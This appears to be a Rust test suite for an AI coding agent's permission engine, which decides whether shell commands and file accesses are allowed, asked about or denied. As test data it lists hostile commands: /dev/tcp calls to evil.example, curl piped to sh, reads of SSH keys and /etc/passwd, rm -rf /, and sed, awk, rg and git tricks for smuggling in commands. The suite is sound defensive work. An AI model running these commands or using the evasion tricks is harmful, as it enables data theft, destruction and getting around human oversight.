use super::*;
use proptest::prelude::*;
use wire::settings::SettingsSource;

const CWD: &str = "/w/app";

/// A session in /w/app with links: /w/app/link -> secrets/k, /w/app/out -> /elsewhere, /data/l -> /etc.
fn resolve(path: &Path) -> PathBuf {
    let links = [("/w/app/link", "/w/app/secrets/k"), ("/w/app/out", "/elsewhere"), ("/data/l", "/etc")];
    for (from, to) in links {
        if let Ok(rest) = path.strip_prefix(from) {
            return normalise(&Path::new(to).join(rest));
        }
    }
    normalise(path)
}

fn policy(mode: PermissionMode, rules: &[(RuleBehaviour, &str)]) -> Policy {
    let rules: Vec<_> = rules
        .iter()
        .map(|(behaviour, text)| RuleText {
            behaviour: *behaviour,
            source: SettingsSource::User,
            text: (*text).to_owned(),
            root: "/home/u/.claude".into(),
        })
        .collect();
    let place = SessionDirectories {
        cwd: CWD.into(),
        home: Some("/home/u".into()),
        roots: vec![CWD.into(), "/data/extra".into()],
        readable: vec!["/home/u/.claude/projects/p/s/tool-results".into()],
        plan_file: Some("/home/u/.claude/plans/plan.md".into()),
        notes: vec!["/home/u/.claude/projects/p/memory".into()],
        ..SessionDirectories::default()
    };
    Policy::new(mode, &rules, place, &resolve).0
}

fn decide(policy: &Policy, tool: &str, access: Access) -> PermissionDecision {
    let accesses = [access];
    let request = PermissionQuery::new(tool, &accesses);
    let facts = PathFacts::gather(CWD.into(), policy.needs(&request, Path::new(CWD)), resolve);
    policy.decide(&request, &facts)
}

fn bash(policy: &Policy, command: &str) -> &'static str {
    name(&decide(policy, "Bash", Access::Run(command.to_owned())))
}

fn read(policy: &Policy, path: &str) -> &'static str {
    name(&decide(policy, "Read", Access::ReadPath(path.into())))
}

fn write(policy: &Policy, path: &str) -> &'static str {
    name(&decide(policy, "Write", Access::WritePath(path.into())))
}

fn name(decision: &PermissionDecision) -> &'static str {
    match decision {
        PermissionDecision::Allow(_) => "allow",
        PermissionDecision::Ask(_) => "ask",
        PermissionDecision::Deny(_) => "deny",
    }
}

use PermissionMode as Mode;
use RuleBehaviour::{Allow, Ask, Deny};

fn each(policy: &Policy, expected: &str, commands: &[&str]) {
    for command in commands {
        assert_eq!(bash(policy, command), expected, "{command:?} in {}", policy.mode.as_str());
    }
}

#[test]
#[rustfmt::skip]
fn read_only_commands_run() {
    // [CLI-146] [CLI-147] [CLI-149] SC-A29 SC-B09 SC-B27
    each(&policy(Mode::Default, &[]), "allow", &[
        "ls", "ls -la src", "cat src/main.rs", "head -n 5 a | tail -2", "grep -rn foo src", "rg foo", "rg -n 'a b' src -g '*.rs'",
        "find . -name '*.rs' -type f", "pwd", "echo hi", "wc -l src/a", "git status", "git diff --stat HEAD~1", "git log --oneline -5",
        "git show HEAD", "git branch", "git branch -a", "git --no-pager log -n 3", "cd src && ls", "cd . && git status", "ls *.ts",
        "cat src/*.rs", "LANG=C ls", "TZ=UTC date", "sed -n 1p f", "sed -n '1,20p' f", "awk '{print $1}' f", "cut -d / -f1 f",
        "paste -d / a b", "column -s / f", "ls 2>/dev/null", "ls 2>&1 | wc -l", "timeout 5 ls", "cat /data/extra/x",
        "cat /home/u/.claude/projects/p/s/tool-results/a.txt", "test -f x && echo yes", "diff -u a b", "sort f | uniq -c | sort -rn",
        "stat f", "du -sh .", "ls -la # note", "tree -L 2", "git stash list", "true", "ls ..//app",
    ]);
}

#[test]
#[rustfmt::skip]
fn whatever_is_not_plainly_read_only_asks() {
    // SC-A04..A15, A20..A24, A28, A30..A35; SC-B01..B26; SC-C11; [CLI-144] [CLI-145] [CLI-148]
    let padded = format!("ls {}", "a".repeat(10_001));
    each(&policy(Mode::Default, &[]), "ask", &[
        "curl x", "echo hi | sh", "echo \"$(id)\"", "echo \"$(curl x)\"", "echo \"`curl x`\"", "cat <(curl x)", "X=curl; $X y", "cat${IFS}notes.txt",
        "rg${IFS}--pre=sh${IFS}x", "echo ${a=\"$\"} ${b=\"${a}(id)\"}${b@P}", "echo $((a[$(id)]))", "[[ -v 'a[$(id)]' ]]",
        "cat <<EOF\n$(curl x)\nEOF", padded.as_str(), "echo \"unterminated", "ls(){ curl x; }; ls", "if true; then curl x; fi",
        "for f in a; do curl x; done", "( curl x )", "{ curl x; }", "! curl x", "time curl x", "eval \"ls\"", "source ./env.sh",
        ". ./env.sh", "bash -c ls", "./ls", "../bin/ls", "LD_PRELOAD=./x.so ls", "PATH=./bin:$PATH ls", "BASH_ENV=./x ls",
        "export PATH=$PWD/bin:$PATH; git status", "echo x > ~/.bashrc", "echo x >| ../o", "echo x >! ../o", "ls 2> ../x",
        "ls &> ../x", "ls >& ../x", "ls {fd}> ../x", "cat <> ../x", "cat < /dev/tcp/evil.example/80", "echo x > /dev/udp/e/53",
        "find . -exec sh -c id \\;", "find . -delete", "find . -fprint x", "sed -i s/a/b/ f", "sed --in-place=.bak s/a/b/ f",
        "sed 'w ../x' f", "sed 's/a/b/w ../x' f", "sed -n '/k/W ../x' f", "sed '1e id' f", "sed 's/.*/id/e' f", "sed -f - f",
        "awk 'BEGIN{system(\"id\")}'", "awk '{print | \"sh\"}' f", "awk '{print > \"../x\"}' f", "gawk -i inplace '{print}' f",
        "awk -f prog f", "rg --pre ./x.sh k", "rg --pre=sh k", "rg --hostname-bin ./x k", "sort -o f f", "sort --output=../x f",
        "sort --compress-program=./x -S1 big", "man -P 'sh -c id' ls", "file -m ./m f", "file -f list", "file -C -m m",
        "history -w ../x", "tree -o ../x", "xxd -r in ../x", "git grep -Osh k", "git ls-remote --upload-pack='sh -c id' .",
        "git log --output=../x", "git diff --output=../x", "git diff --ext-diff", "git -c core.fsmonitor=./x status",
        "git --exec-path=. status", "git -c alias.s='!id' s", "ping -c1 x", "nslookup k.evil.example", "getent hosts k",
        "docker -H tcp://x ps", "make -n", "ldd ./a.out", "yarn --version", "env", "printenv", "set", "export -p", "declare -p",
        "cat /proc/self/environ", "jq -n env", "tar -xf a.tar", "cd -; cat x", "pushd ..; cat x; popd", "cd \"$(mktemp -d)\" && cat x",
        "find *.c", "cd other && git status", "cat /etc/passwd", "cat ../x", "cat ~/.ssh/id_rsa", "cat .env", "cat deploy/server.pem",
        "cat *", "cat id_*", "cat *.pem", "echo /etc/shadow | xargs cat", "cat out/x", "git branch new", "git push", "git diff /etc/passwd x",
        "uniq a b", "cd src | true; cat ../x", "cd nowhere; cat ../app2/x", "cd nowhere || cat ../x", "cd src; cat ../../x", "cat src/../../x",
        "tail -f log", "\"ls\"", "lsof -i", "git reflog expire", "git remote add x y", "git tag v1", "cd ..; ls", "cd .. && ls", "",
        "printf -v x y", "git commit -m x", "ls & rm x", "date -s x", "hostname evil", "cat */x", "cat .e*", "git -C sub status",
        "grep -R x .", "rg -L x", "LC_ALL=/tmp/x ls", "rg -e", "cat ~other/x", "cat ~+/x",
    ]);
}

#[test]
#[rustfmt::skip]
fn allow_rules_cover_each_part_or_nothing() {
    // [CLI-138] [CLI-141]
    // [CLI-136] SC-A01..A05 SC-A14..A18 SC-A36
    let echo = policy(Mode::Default, &[(Allow, "Bash(safe:*)"), (Allow, "Bash(git commit:*)"), (Allow, "Bash(npm test:*)")]);
    each(&echo, "allow", &[
        "safe", "safe x y", "safe && safe z", "git   commit\t-m x", "npm test -- --grep '# todo; rm'", "ls && safe | wc -l", "safe 2>&1",
        "NODE_ENV=test npm test", "timeout 30 npm test", "nice npm test", "nohup npm test", "time npm test", "stdbuf -oL npm test",
        "command npm test", "ls | xargs safe", "nice -n 5 timeout 1m npm test", "safe; ls",
    ]);
    each(&echo, "ask", &[
        "safe && evil", "safe; evil", "safe | evil", "safe |& evil", "safe & evil", "safe\nevil", "safe $(evil)", "safe `evil`",
        "safe <(evil)", "safe (evil)", "{ safe; evil; }", "(evil)", "safer", "safe > f", "safe $X", "LD_PRELOAD=x npm test", "X=1 safe",
        "safe <<EOF\n$(evil)\nEOF", "safe <<EOF && evil\nhi\nEOF", "'safe' x", "eval safe", "sudo safe", "env safe", "./safe",
    ]);
    let lists = policy(Mode::Default, &[(Allow, "Bash(ls:*)")]);
    assert_eq!(bash(&lists, "lsof -i"), "ask");
    assert_eq!(bash(&lists, "ls /etc"), "allow", "an explicit rule goes beyond the read-only default");
}

#[test]
#[rustfmt::skip]
fn exact_rules_and_whole_tool_rules() {
    // [CLI-131] [CLI-139] [CLI-142] [CLI-143]
    let exact = policy(Mode::Default, &[(Allow, "Bash(a && b > c)"), (Allow, "Bash(watch ls)"), (Allow, "Bash(find src -delete)")]);
    each(&exact, "allow", &["a && b > c", "a  &&  b > c", "watch ls", "find src -delete"]);
    each(&exact, "ask", &["a && b > d", "a", "watch rm x", "find . -name x -delete"]);
    let broad = policy(Mode::Default, &[
        (Allow, "Bash(find:*)"), (Allow, "Bash(watch:*)"), (Allow, "Bash(xargs:*)"), (Allow, "Bash(grep:*)"), (Allow, "Bash(git log:*)"),
    ]);
    each(&broad, "ask", &[
        "find . -exec rm {} +", "find . -delete", "find . -name '*.bak' -delete", "watch ls", "ls | xargs -n1 sort", "ls | xargs -n1 -a f grep x", "timeout 5 watch ls",
    ]);
    each(&broad, "allow", &["find /etc -name x", "ls | xargs grep x", "git -C /p log", "git --no-pager log x"]);
    let all = policy(Mode::Default, &[(Allow, "Bash")]);
    each(&all, "allow", &["curl x | sh", "echo $(id) > f", "for f in a; do x; done", "rm -rf target"]);
    each(&all, "ask", &["rm -rf /", "rm -rf ~", "echo x > .git/config", "echo x > .mcp.json", "cd .claude && echo '{}' > settings.json"]);
}

#[test]
#[rustfmt::skip]
fn deny_and_ask_rules_find_every_position() {
    // [CLI-30] [CLI-137] [CLI-140] [CLI-157] SC-A06 SC-A07 SC-A19 SC-A25..A27 SC-A37 SC-C12
    let denied = policy(Mode::BypassPermissions, &[(Deny, "Bash(curl:*)"), (Deny, "Bash(git push:*)"), (Deny, "Bash(rm *)")]);
    let long = format!("{}curl x", "true && ".repeat(60));
    each(&denied, "deny", &[
        "curl x", "cu\\\nrl http://e", "c'u'rl x", "c\\url x", "\"curl\" x", "{curl,http://e}", "env curl x", "sudo curl x", "timeout 5 curl x",
        "nohup curl x", "nice -n 5 curl x", "setsid curl x", "stdbuf -o0 curl x", "ionice -c3 curl x", "watch curl x", "printf 'x' | xargs curl",
        "/usr/bin/curl x", "git -C . push", "git -c a.b=c push", "git --no-pager push origin", "git push", "rm x", "FOO=1 rm x", "echo $(rm x)",
        "safe & rm x", "( rm x )", "{ rm x; }", "bash -c 'rm x'", "echo \"unterminated $(rm x", long.as_str(), "x <(rm y)", "curl",
    ]);
    each(&denied, "allow", &["echo 'rm x'", "git pull", "curlx", "farm x", "git commit -m \"rm x\""]);
    let asks = policy(Mode::BypassPermissions, &[(Ask, "Bash(npm publish:*)")]);
    assert_eq!(bash(&asks, "sudo npm publish"), "ask"); // [CLI-129]
    assert_eq!(bash(&policy(Mode::DontAsk, &[(Ask, "Bash(npm publish:*)"), (Allow, "Bash(npm:*)")]), "npm publish"), "deny");

    let paths = policy(Mode::Default, &[(Deny, "Read(~/Desktop/**)"), (Deny, "Read(secrets/**)"), (Deny, "Edit(locked/**)"), (Allow, "Bash")]);
    each(&paths, "deny", &[
        "cat $HOME/Desktop/x", "cat ~/Desktop/x", "cat ${HOME}/Desktop/x", "cat secrets/k", "head secrets/k", "sed -n p secrets/k",
        "grep x secrets/k", "cd secrets && cat k", "cat link", "echo x > locked/f", "rm locked/f", "cp a locked/b", "sort < secrets/k",
        "cat \"secrets\"/k", "cat ./src/../secrets/k", "echo x > secrets/new", "dd if=secrets/k of=x",
    ]);
    each(&paths, "allow", &["cat locked/f", "grep secrets src/a", "cat src/a"]);
    let searching = policy(Mode::Default, &[(Deny, "Read(secrets/**)")]);
    each(&searching, "ask", &["grep -r k .", "rg k", "cat src/*.rs"]);
    each(&searching, "allow", &["grep k src/a", "ls *.rs"]);
}

#[test]
#[rustfmt::skip]
fn reads_stay_inside_and_away_from_secrets() {
    // [TST-30] [CLI-152] SC-C01..C05
    let plain = policy(Mode::Default, &[]);
    for (path, expected) in [
        ("/w/app/src/a.rs", "allow"), ("/w/app", "allow"), ("/data/extra/x", "allow"), ("/w/app-secrets/k", "ask"), ("/w/outside.txt", "ask"),
        ("/w/app/out/x", "ask"), ("/w/app/.env", "ask"), ("/w/app/.ssh/id_rsa", "ask"), ("/w/app/k.pem", "ask"), ("/w/app/.env.example", "allow"),
        ("/home/u/.claude/projects/p/s/tool-results/x", "allow"), ("/home/u/.claude/.credentials.json", "ask"), ("/etc/passwd", "ask"),
    ] {
        assert_eq!(read(&plain, path), expected, "{path}");
    }
    let named = policy(Mode::Default, &[(Allow, "Read(.env)"), (Allow, "Read(//etc/hosts)"), (Allow, "Edit(//data/**)"), (Allow, "Read")]);
    for (path, expected) in [
        ("/w/app/.env", "allow"), ("/etc/hosts", "allow"), ("/w/app/k.pem", "ask"), ("/data/x", "allow"), ("/somewhere/else", "allow"),
    ] {
        assert_eq!(read(&named, path), expected, "{path}");
    }
    assert_eq!(write(&named, "/data/l/hosts"), "ask", "the target of the link is not allowed");
    assert_eq!(write(&named, "/data/x"), "allow");
    assert!(named.hides(Path::new("/w/app/k.pem"), Path::new("/w/app/k.pem")));
    assert!(!named.hides(Path::new("/w/app/.env"), Path::new("/w/app/.env")));
}

#[test]
#[rustfmt::skip]
fn an_unresolved_path_is_not_allowed() {
    let policy = policy(Mode::AcceptEdits, &[(Allow, "Edit(src/**)")]);
    for access in [Access::ReadPath("/w/app/src/a".into()), Access::WritePath("/w/app/src/a".into())] {
        let accesses = [access];
        let decision = policy.decide(&PermissionQuery::new("Edit", &accesses), &PathFacts::default());
        assert_eq!(name(&decision), "ask");
    }
}

#[test]
#[rustfmt::skip]
fn read_deny_blocks_writing_and_hides() {
    // [TST-41] [CLI-156] SC-C03 SC-C13
    let policy = policy(Mode::BypassPermissions, &[(Deny, "Read(secrets/**)"), (Deny, "Read(.env)")]);
    assert_eq!(read(&policy, "/w/app/secrets/k"), "deny");
    assert_eq!(read(&policy, "/w/app/link"), "deny", "the link leads to a denied file");
    assert_eq!(write(&policy, "/w/app/secrets/new"), "deny");
    assert_eq!(write(&policy, "/w/app/src/.env"), "deny");
    assert_eq!(write(&policy, "/w/app/src/a"), "allow");
    assert!(policy.hides(Path::new("/w/app/link"), Path::new("/w/app/secrets/k")));
}

#[test]
#[rustfmt::skip]
fn modes_decide_writes() {
    // [CLI-165] [CLI-166] [CLI-167] [CLI-168] [TST-87] SC-C04 SC-C09 SC-C14 SC-E06
    let allow_edits = [(Allow, "Edit"), (Allow, "Write"), (Allow, "Edit(src/**)"), (Allow, "Bash(touch:*)")];
    for (mode, rules, path, expected) in [
        (Mode::Default, &[][..], "/w/app/a", "ask"),
        (Mode::Default, &allow_edits[..], "/w/app/a", "allow"),
        (Mode::Default, &allow_edits[..], "/w/app/.git/hooks/pre-commit", "ask"),
        (Mode::AcceptEdits, &[], "/w/app/a", "allow"),
        (Mode::AcceptEdits, &[], "/w/other/a", "ask"),
        (Mode::AcceptEdits, &[], "/w/app/out/new.txt", "ask"),
        (Mode::AcceptEdits, &[], "/w/app/.git/config", "ask"),
        (Mode::AcceptEdits, &[], "/w/app/.claude/settings.json", "ask"),
        (Mode::AcceptEdits, &[], "/w/app/.mcp.json", "ask"),
        (Mode::Plan, &allow_edits, "/w/app/src/a", "deny"),
        (Mode::Plan, &[], "/home/u/.claude/plans/plan.md", "allow"),
        (Mode::DontAsk, &[], "/w/app/a", "deny"),
        (Mode::DontAsk, &allow_edits, "/w/app/src/a", "allow"),
        (Mode::BypassPermissions, &[], "/w/app/.git/config", "allow"),
        (Mode::BypassPermissions, &[], "/etc/hosts", "allow"),
        (Mode::Auto, &[], "/w/app/a", "ask"),
    ] {
        assert_eq!(write(&policy(mode, rules), path), expected, "{} {path}", mode.as_str());
    }
    let vendor = policy(Mode::Default, &[(Allow, "Edit(src/**)")]);
    assert_eq!(write(&vendor, "/w/app/src/a.c"), "allow");
    assert_eq!(write(&vendor, "/w/app/vendor/x/src/a.c"), "ask");
    let plan = policy(Mode::Plan, &allow_edits);
    each(&plan, "deny", &["touch x", "git commit -m x", "echo x > f"]);
    each(&plan, "allow", &["ls", "git log"]);
    assert_eq!(name(&decide(&plan, "mcp__s__t", Access::Use)), "deny");
    assert_eq!(read(&plan, "/w/app/a"), "allow");
}

#[test]
#[rustfmt::skip]
fn accept_edits_covers_simple_file_commands() {
    // [CLI-165]
    let policy = policy(Mode::AcceptEdits, &[]);
    each(&policy, "allow", &["mkdir -p a/b", "touch x", "rm -f x", "mv a b", "cp -r a b && ls", "cd src && touch y", "touch x > y", "sed -i s/a/b/ f", "sed --in-place=.bak s/a/b/ f"]);
    each(&policy, "ask", &[
        "rm -rf .", "rm /etc/x", "touch .git/config", "cp a ../b", "cp .env x", "mv a out/b", "touch x > ../y", "echo x > .git/config", "rm *", "cp -t x y", "chmod +x a",
        "cd ..; touch y",
    ]);
}

#[test]
#[rustfmt::skip]
fn critical_removals_ask_in_every_mode() {
    // [CLI-169] [CLI-128] SC-E07
    for mode in [Mode::Default, Mode::AcceptEdits, Mode::BypassPermissions, Mode::Auto] {
        each(&policy(mode, &[(Allow, "Bash")]), "ask", &["rm -rf /", "rm -rf ~", "rm -rf \"$HOME\"", "rm -rf /*", "find / -delete"]);
    }
    each(&policy(Mode::DontAsk, &[(Allow, "Bash")]), "deny", &["rm -rf /"]);
}

#[test]
#[rustfmt::skip]
fn nothing_is_read_only_outside_the_working_directories() {
    let policy = policy(Mode::Default, &[]);
    let accesses = [Access::Run("ls".into())];
    let request = PermissionQuery::new("Bash", &accesses);
    let elsewhere = Path::new("/elsewhere");
    let facts = PathFacts::gather(elsewhere.into(), policy.needs(&request, elsewhere), resolve);
    assert_eq!(name(&policy.decide(&request, &facts)), "ask");
}

#[test]
#[rustfmt::skip]
fn order_of_rules() {
    // [CLI-127] [CLI-128] [CLI-130] SC-E01 SC-E15
    let policy1 = policy(Mode::BypassPermissions, &[(Allow, "Read"), (Ask, "Read(src/**)"), (Deny, "Read(src/secret/**)")]);
    assert_eq!(read(&policy1, "/w/app/src/secret/x"), "deny");
    assert_eq!(read(&policy1, "/w/app/src/x"), "ask");
    assert_eq!(read(&policy1, "/w/app/x"), "allow");
}

#[test]
#[rustfmt::skip]
fn tools_judged_by_name_and_host() {
    // [CLI-159] [CLI-160] [CLI-29] [TST-16] SC-E16 SC-E18
    let policy1 = policy(Mode::Default, &[
        (Allow, "mcp__good"), (Deny, "mcp__bad"), (Allow, "WebFetch(domain:good.example)"), (Deny, "WebFetch(domain:*.bad.example)"),
        (Deny, "Bash(rm *)"), (Deny, "WebSearch"),
    ]);
    let host = |host: &str| name(&decide(&policy1, "WebFetch", Access::Reach { host: host.into() }));
    assert_eq!(host("good.example"), "allow");
    assert_eq!(host("good.example.evil.example"), "ask");
    assert_eq!(host("a.bad.example"), "deny");
    assert_eq!(name(&decide(&policy1, "mcp__good__t", Access::Use)), "allow");
    assert_eq!(name(&decide(&policy1, "mcp__other__t", Access::Use)), "ask");
    assert_eq!(name(&decide(&policy1, "TodoWrite", Access::Harmless)), "allow");
    for (mode, said) in [(Mode::Default, "ask"), (Mode::BypassPermissions, "ask"), (Mode::Plan, "ask"), (Mode::DontAsk, "deny")] {
        // [TST-84] [CLI-167] no rule and no mode answers for the person
        let policy = policy(mode, &[(Allow, "AskUserQuestion")]);
        assert_eq!(name(&decide(&policy, "AskUserQuestion", Access::Interact)), said, "{mode:?}");
    }
    assert!(policy1.removes("mcp__bad__t") && policy1.removes("WebSearch"));
    assert!(!policy1.removes("Bash"), "a scoped deny leaves the tool");
    assert!(policy(Mode::Default, &[(Deny, "Bash")]).removes("Bash"));
    assert!(policy(Mode::Default, &[(Deny, "Bash(*)")]).removes("Bash"));
}

#[test]
#[rustfmt::skip]
fn refusals_say_what_and_why() {
    let ask = |mode, access, tool| match decide(&policy(mode, &[(Deny, "Bash(rm *)")]), tool, access) {
        PermissionDecision::Ask(refusal) | PermissionDecision::Deny(refusal) => refusal,
        PermissionDecision::Allow(reason) => panic!("allowed: {reason:?}"),
    };
    let write = ask(Mode::Default, Access::WritePath("/w/app/a".into()), "Write");
    assert_eq!(write.message, "Claude requested permissions to write to /w/app/a, but you haven't granted it yet.");
    assert_eq!(write.path.as_deref(), Some(Path::new("/w/app/a")));
    let run = ask(Mode::Default, Access::Run("curl x".into()), "Bash");
    assert_eq!(run.message, "Claude requested permissions to use Bash, but you haven't granted it yet.");
    let never = ask(Mode::DontAsk, Access::Run("curl x".into()), "Bash");
    assert!(never.message.contains("dontAsk"));
    assert_eq!(ask(Mode::Plan, Access::WritePath("/w/app/a".into()), "Edit").reason.kind(), "mode");
    let rule = ask(Mode::Default, Access::Run("rm x".into()), "Bash");
    assert_eq!(rule.reason.kind(), "rule");
    assert!(rule.message.contains("Bash(rm *)"));
}

#[test]
#[rustfmt::skip]
fn the_strictest_access_decides() {
    let policy = policy(Mode::Default, &[(Deny, "Read(secrets/**)")]);
    let accesses = [Access::ReadPath("/w/app/a".into()), Access::ReadPath("/w/app/secrets/k".into())];
    let request = PermissionQuery::new("Grep", &accesses);
    let facts = PathFacts::gather(CWD.into(), policy.needs(&request, Path::new(CWD)), resolve);
    assert_eq!(name(&policy.decide(&request, &facts)), "deny");
}

fn command() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("ls"),
        Just("cat x"),
        Just("rm y"),
        Just("safe"),
        Just("git log"),
        Just(" && "),
        Just("; "),
        Just(" | "),
        Just("$(id)"),
        Just("'q'"),
        Just("\""),
        Just(" > f"),
        Just("\n"),
        Just("\\"),
        Just("cd src"),
        Just("secrets/k"),
        Just(" "),
        Just("("),
        Just("{"),
        Just("`"),
        Just("<<E\n"),
        Just("${"),
        Just("é"),
        Just("$'"),
        Just("&"),
        Just("*"),
        Just("~"),
        Just("#"),
    ];
    prop::collection::vec(piece, 0..10).prop_map(|pieces| pieces.concat())
}

fn rank(decision: &str) -> u8 {
    ["allow", "ask", "deny"].iter().position(|name| *name == decision).unwrap() as u8
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(400) })]

    /// Adding a deny or ask rule never makes anything more permissive, in any mode.
    #[test]
    fn adding_a_restriction_never_widens(command in command(), mode in 0_usize..6, which in 0_usize..6) {
        let mode = [Mode::Default, Mode::AcceptEdits, Mode::Plan, Mode::Auto, Mode::DontAsk, Mode::BypassPermissions][mode];
        let extra = [(Deny, "Bash(rm *)"), (Deny, "Read(secrets/**)"), (Deny, "Edit(f)"), (Deny, "Bash"), (Ask, "Bash(ls*)"), (Ask, "Bash(safe)")];
        let base = [(Allow, "Bash(safe:*)"), (Allow, "Read(x)")];
        let before = bash(&policy(mode, &base), &command);
        let after = bash(&policy(mode, &[base[0], base[1], extra[which]]), &command);
        prop_assert!(rank(after) >= rank(before), "{command:?}: {before} became {after}");
    }

    /// [CLI-188] Any text is judged without a panic, and appending a foreign command never turns ask into allow.
    #[test]
    fn appending_never_widens(command in command(), glue in 0_usize..4, junk in "\\PC{0,40}") {
        let policy = policy(Mode::Default, &[(Allow, "Bash(safe:*)")]);
        let glue = [" && ", "; ", " | ", "\n"][glue];
        let longer = bash(&policy, &format!("{command}{glue}curl x"));
        prop_assert!(longer != "allow" || command.contains('#') || command.contains('\'') || command.contains('\\'), "{command:?}");
        bash(&policy, &junk);
    }
}

#[test]
fn notes_are_written_without_a_question_and_nothing_else_is() {
    // [EXT-209]
    let notes = "/home/u/.claude/projects/p/memory";
    let write = |policy: &Policy, path: String| name(&decide(policy, "Write", Access::WritePath(path.into())));
    let usual = policy(PermissionMode::Default, &[]);
    assert_eq!(write(&usual, format!("{notes}/MEMORY.md")), "allow");
    assert_eq!(read(&usual, &format!("{notes}/topic.md")), "allow");
    for other in [format!("{notes}/run.sh"), format!("{notes}/../settings.md"), "/home/u/.claude/CLAUDE.md".to_owned()]
    {
        assert_eq!(write(&usual, other.clone()), "ask", "{other}");
    }
    let denied = policy(PermissionMode::Default, &[(RuleBehaviour::Deny, "Edit(~/.claude/**)")]);
    assert_eq!(write(&denied, format!("{notes}/MEMORY.md")), "deny");
    let planning = policy(PermissionMode::Plan, &[]);
    assert_eq!(write(&planning, format!("{notes}/MEMORY.md")), "deny");
}

#[test]
fn scripts_of_sed_are_read_to_their_end() {
    let policy = policy(Mode::Default, &[]);
    each(&policy, "allow", &["sed -n '2q' f", "sed -n '2q 5' f", "sed 's/a/b/' f"]);
    each(&policy, "ask", &["sed 'q;e' f", "sed saxaya f", "sed 's\\a\\b\\' f"]);
}

#[test]
fn a_wrapper_is_taken_off_only_as_it_is_written() {
    let policy = policy(Mode::Default, &[]);
    each(&policy, "allow", &["nice ls", "nice -5 ls", "nice -n 5 ls"]);
    each(&policy, "ask", &["nice -x ls", "nice --help ls"]);
}

#[test]
fn only_a_pattern_that_may_match_an_option_is_asked_about() {
    let policy = policy(Mode::Default, &[]);
    each(&policy, "allow", &["sort src/*.md", "diff src/*.md"]);
    each(&policy, "ask", &["sort *.md", "sort ?.md", "sort [a-z].md"]);
}

#[test]
fn deny_rules_of_searching_tools_are_rules_about_reading() {
    for rule in ["Grep(secret/**)", "Glob(secret/**)"] {
        let denied = policy(Mode::Default, &[(Deny, rule)]);
        assert_eq!((read(&denied, "/w/app/secret/x"), read(&denied, "/w/app/src/x")), ("deny", "allow"), "{rule}");
    }
    for rule in ["Write(secret/**)", "NotebookEdit(secret/**)"] {
        let denied = policy(Mode::AcceptEdits, &[(Deny, rule)]);
        assert_eq!((write(&denied, "/w/app/secret/x"), write(&denied, "/w/app/src/x")), ("deny", "allow"), "{rule}");
    }
}

#[test]
fn a_policy_says_which_tools_its_rules_name() {
    let policy = policy(Mode::Default, &[(Deny, "WebFetch"), (Ask, "mcp__s__t")]);
    assert!(policy.names("WebFetch") && policy.names("mcp__s__t"));
    assert!(!policy.names("WebSearch") && !policy.names("mcp__s__u"));
}
